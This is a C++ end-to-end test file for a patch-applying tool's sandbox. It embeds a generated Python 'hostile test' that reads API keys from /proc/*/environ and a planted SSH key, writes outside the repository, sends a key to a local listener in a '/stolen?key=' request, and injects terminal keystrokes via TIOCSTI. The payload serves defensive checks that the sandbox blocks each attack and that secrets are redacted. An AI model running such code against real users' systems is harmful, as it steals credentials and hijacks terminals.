// Issue 11: the tests a model writes are hostile. A patch whose test tries, under the default
// settings, to read each secret (the environment, /proc/*/environ, a file under $HOME), write
// outside its worktree, connect to a listener on 127.0.0.1, and push keystrokes into the user's
// terminal (TIOCSTI): every attempt fails, and the run reports normally. With --no-sandbox the
// environment still holds no key. The tool runs under `script`, so it has a real controlling
// terminal, as it does for a user.
#include "support/fake_server.hpp"
#include "support/run_tool.hpp"
#include "support/temp_repo.hpp"
#include "verify/sandbox.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <cstdlib>
#include <fstream>
#include <iterator>
#include <sys/wait.h>

using namespace oneshot::testing;
using nlohmann::json;

namespace {

const std::string kKey = "sk-hostile-0123456789abcdef";
const std::string kToken = "ghp_hostiletoken0123456789";
const std::string kHomeSecret = "PRIVATE-KEY-MATERIAL-4711";

// Outside everything the sandbox shows writable: a write must fail there (read-only system
// folder; a folder the sandbox does not show). Only tried under the sandbox ("all").
std::vector<std::string> must_fail_writes()
{
    return {"/usr/oneshot-hostile-probe", std::string(ONESHOT_SOURCE_DIR) + "/tests/oneshot-hostile-probe"};
}

// The model's test: each attack prints "SUCCEEDED <name>" when it works; exit 0 only when none
// did and every attack really ran to its end. Modes: "all" (under the sandbox), "control" (all
// but the writes to system folders, for --no-sandbox), "env" (only the environment).
// `outside` are the user's folders (under /tmp and $HOME): inside the sandbox those paths are its
// private tmpfs, so a write there may succeed in the sandbox; the host is checked afterwards.
std::string hostile_script(const std::string& mode, const std::string& home_secret_file, const std::vector<std::string>& outside,
                           int port)
{
    std::string py = "import os, socket, fcntl, termios, glob, sys\n"
                     "KEY = '" + kKey + "'\nTOKEN = '" + kToken + "'\nSECRET = '" + kHomeSecret + "'\n"
                     "bad = []\n"
                     "def attempt(name, fn):\n"
                     "    try:\n"
                     "        if fn(): bad.append(name)\n"
                     "    except OSError:\n"
                     "        pass\n"
                     "attempt('env', lambda: KEY in str(os.environ) or TOKEN in str(os.environ))\n"
                     "attempt('self-environ', lambda: KEY.encode() in open('/proc/self/environ', 'rb').read())\n";
    if (mode == "all" || mode == "control") {
        py += "def proc_environ():\n"
              "    found = False\n"
              "    for path in glob.glob('/proc/*/environ'):\n"
              "        try:\n"
              "            found = found or KEY.encode() in open(path, 'rb').read()\n"
              "        except OSError:\n"
              "            pass\n"
              "    return found\n"
              "attempt('proc-environ', proc_environ)\n"
              "attempt('home-file', lambda: SECRET in open('" + home_secret_file + "').read())\n";
        for (const auto& path : outside) py += "attempt('private write " + path + "', lambda: open('" + path + "', 'w').write('x') > 0 and False)\n";
        if (mode == "all") {
            for (const auto& path : must_fail_writes()) py += "attempt('write " + path + "', lambda: open('" + path + "', 'w').write('x') > 0)\n";
        }
        py += "def connect():\n"
              "    s = socket.create_connection(('127.0.0.1', " + std::to_string(port) + "), timeout=3)\n"
              "    s.sendall(b'GET /stolen?key=' + KEY.encode() + b' HTTP/1.0\\r\\n\\r\\n')\n"
              "    return True\n"
              "attempt('network', connect)\n"
              "def tiocsti():\n"
              "    fd = os.open('/dev/tty', os.O_RDWR)\n"
              "    fcntl.ioctl(fd, termios.TIOCSTI, b'#')\n"
              "    return True\n"
              "attempt('tiocsti', tiocsti)\n"
              "def tiocsti_std():\n"
              "    done = False\n"
              "    for fd in (0, 1, 2):\n"
              "        try:\n"
              "            fcntl.ioctl(fd, termios.TIOCSTI, b'#')\n"
              "            done = True\n"
              "        except OSError:\n"
              "            pass\n"
              "    return done\n"
              "attempt('tiocsti-stdio', tiocsti_std)\n";
    }
    py += "for name in bad: print('SUCCEEDED', name)\n"
          "print('attacks done')\n"
          "sys.exit(3 if bad else 0)\n";
    return py;
}

json create(const std::string& path, const std::string& content)
{
    return {{"path", path}, {"action", "create"}, {"new_path", nullptr}, {"content", content}, {"edits", nullptr}};
}

struct ToolResult {
    int exit_code = -1;
    std::string out, err;
};

std::string slurp(const std::filesystem::path& file)
{
    std::ifstream in(file, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

// The tool under `script`: a pseudo-terminal as its controlling terminal, as in a user's shell.
ToolResult run_in_terminal(const TempRepo& repo, const std::string& args, const std::vector<std::pair<std::string, std::string>>& env)
{
    const auto dir = repo.path().parent_path();
    std::string inner = "cd " + quote(repo.path().string()) + " && env -u ANTHROPIC_API_KEY -u OPENAI_BASE_URL";
    for (const auto& [key, value] : env) inner += " " + key + "=" + quote(value);
    inner += " " + quote(ONESHOT_BINARY) + " " + args + " </dev/null >" + quote((dir / "out").string()) + " 2>" + quote((dir / "err").string());
    const int status = std::system(("script -qec " + quote(inner) + " /dev/null >/dev/null 2>&1").c_str());
    ToolResult result;
    // script passes the child's exit code through.
    result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    result.out = slurp(dir / "out");
    result.err = slurp(dir / "err");
    return result;
}

struct HostileSetup {
    TempRepo repo;
    std::filesystem::path home;
    std::filesystem::path secret_file;
    std::vector<std::string> outside;
    HostileSetup()
    {
        repo.write("README.md", "hello\n");
        repo.commit_all("base");
        home = repo.path().parent_path() / "home";
        std::filesystem::create_directories(home / ".ssh");
        secret_file = home / ".ssh" / "id_rsa";
        std::ofstream(secret_file) << kHomeSecret << "\n";
        // The user's own tree, a folder beside it, the home folder.
        outside = {(repo.path() / "written-by-test").string(), (repo.path().parent_path() / "written-by-test").string(),
                   (home / "written-by-test").string()};
    }
    std::string patch(const std::string& mode, int port)
    {
        const json doc = {{"summary", "Add a test"}, {"explanation", "."},
                          {"changes", json::array({create("hostile_test.py", hostile_script(mode, secret_file.string(), outside, port))})}};
        const auto file = repo.path().parent_path() / "patch.json";
        std::ofstream(file) << doc.dump();
        return file.string();
    }
    std::vector<std::pair<std::string, std::string>> env() const
    {
        return {{"OPENAI_API_KEY", kKey}, {"GITHUB_TOKEN", kToken}, {"HOME", home.string()}};
    }
};

bool sandbox_available()
{
    const auto bwrap = oneshot::verify::find_bubblewrap();
    return bwrap && oneshot::verify::bubblewrap_failure(*bwrap).empty() && std::system("command -v script >/dev/null 2>&1") == 0;
}

} // namespace

TEST_CASE("hostile tests: under the default settings every attack fails and the run reports normally", "[e2e][verify]")
{
    if (!sandbox_available()) {
        WARN("bubblewrap cannot run here (or util-linux script is missing): the default sandbox is not checked");
        return;
    }
    HostileSetup setup;
    FakeModelServer listener("[]");   // a local listener started by the test
    const std::string before = setup.repo.state_digest();
    auto run = run_in_terminal(setup.repo, "apply --json --test-cmd 'python3 hostile_test.py' " + quote(setup.patch("all", listener.port())),
                               setup.env());
    INFO(run.err);
    REQUIRE(run.exit_code == 0);
    const auto report = json::parse(run.out);
    CHECK(report["status"] == "passed");
    CHECK(report["tests"]["sandbox"] == "bubblewrap");
    CHECK(report["tests"]["exit_code"] == 0);
    for (const auto& path : setup.outside) CHECK_FALSE(std::filesystem::exists(path));
    for (const auto& path : must_fail_writes()) {
        CHECK_FALSE(std::filesystem::exists(path));
        std::filesystem::remove(path);
    }
    CHECK(listener.requests().empty());
    CHECK(setup.repo.state_digest() == before);
    CHECK(run.out.find(kKey) == std::string::npos);
    CHECK(run.err.find(kKey) == std::string::npos);
}

TEST_CASE("hostile tests: the same attacks really succeed without the sandbox, except the environment", "[e2e][verify]")
{
    // The control: proves the attacks above are real, and that --no-sandbox still scrubs keys.
    HostileSetup setup;
    FakeModelServer listener("[]");
    auto all = run_in_terminal(setup.repo, "apply --no-sandbox --test-cmd 'python3 hostile_test.py' " +
                                               quote(setup.patch("control", listener.port())), setup.env());
    INFO(all.err);
    CHECK(all.exit_code == 1);
    CHECK(all.err.find("tests ran without a sandbox") != std::string::npos);
    CHECK(all.err.find("SUCCEEDED home-file") != std::string::npos);
    CHECK(all.err.find("SUCCEEDED network") != std::string::npos);
    CHECK(all.err.find("SUCCEEDED env") == std::string::npos);
    CHECK(all.err.find("SUCCEEDED self-environ") == std::string::npos);
    CHECK(all.err.find(kKey) == std::string::npos);

    HostileSetup env_only;
    auto run = run_in_terminal(env_only.repo, "apply --json --no-sandbox --test-cmd 'python3 hostile_test.py' " +
                                                  quote(env_only.patch("env", listener.port())), env_only.env());
    INFO(run.err);
    CHECK(run.exit_code == 0);
    CHECK(json::parse(run.out)["status"] == "passed");
    CHECK(json::parse(run.out)["tests"]["sandbox"] == "none");
}

TEST_CASE("hostile tests: the key never reaches a test's output, the report or the terminal (issue 11, reproduction 1)", "[e2e][verify]")
{
    for (const char* sandbox : {"", "--no-sandbox "}) {
        HostileSetup setup;
        // The test echoes the variable, and also prints the key's value as a literal, as a test
        // that found it some other way would: the literal is redacted.
        auto run = run_tool(setup.repo.path(),
                            std::string("apply ") + sandbox + "--test-cmd 'echo \"var=${OPENAI_API_KEY}\"; echo \"lit=" + kKey +
                                "\"; exit 1' " + quote(setup.patch("env", 0)),
                            {{"OPENAI_API_KEY", kKey}});
        INFO(sandbox << run.err);
        CHECK(run.exit_code == 1);
        CHECK(run.err.find("var=\n") != std::string::npos);
        CHECK(run.err.find("lit=[REDACTED]") != std::string::npos);
        CHECK(run.err.find(kKey) == std::string::npos);
        CHECK(run.out.find(kKey) == std::string::npos);
    }
}
